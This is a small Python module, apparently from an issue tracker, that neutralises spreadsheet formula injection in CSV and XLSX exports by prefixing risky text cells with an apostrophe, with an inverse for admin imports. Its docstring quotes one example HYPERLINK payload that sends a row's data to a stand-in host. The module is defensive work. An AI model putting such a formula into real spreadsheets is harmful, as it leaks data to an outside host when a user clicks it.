"""The one rule for every spreadsheet the tracker hands out (the reports CSV, the admin's CSV and XLSX).

A cell that begins with = + - @, a tab or a carriage return is read as a formula by spreadsheet programs
(CSV/formula injection: `=HYPERLINK("http://evil.example/?x="&B2,"Click")` in a title leaks the row when
clicked). Such text gets a leading apostrophe, which spreadsheets show as plain text. Numbers and dates are
left alone: only text written by people carries the risk.
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """The value as a spreadsheet must receive it: text that could start a formula is made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_row(row: list[Any]) -> list[Any]:
    return [neutralise_cell(value) for value in row]


def restore_cell(value: Any) -> Any:
    """The inverse for a file coming back in (the admin import): an exported cell imports unchanged."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value
